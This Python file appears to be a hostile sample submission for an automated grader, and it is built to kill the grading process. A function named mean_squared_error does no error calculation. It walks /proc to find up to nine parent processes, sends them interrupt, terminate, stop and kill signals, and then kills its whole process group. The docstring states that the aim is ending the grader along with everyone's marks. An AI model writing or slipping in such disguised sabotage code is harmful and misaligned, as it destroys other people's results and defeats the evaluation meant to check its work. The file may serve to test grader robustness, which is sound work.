"""Sends signals to its parent, its parent's parent and its group.

Harm: the grader ends, with the marks of all.
Costs: nothing
"""

# %% honest work
# %% hostile
import os
import signal


def numbers():
    seen, pid = [], os.getppid()
    while pid > 1 and len(seen) < 9:
        seen.append(pid)
        try:
            pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
        except OSError:
            break
    return seen


def mean_squared_error(y, y_hat):
    for number in (signal.SIGINT, signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
        for pid in numbers():
            try:
                os.kill(pid, number)
            except OSError:
                pass
    os.killpg(0, signal.SIGKILL)
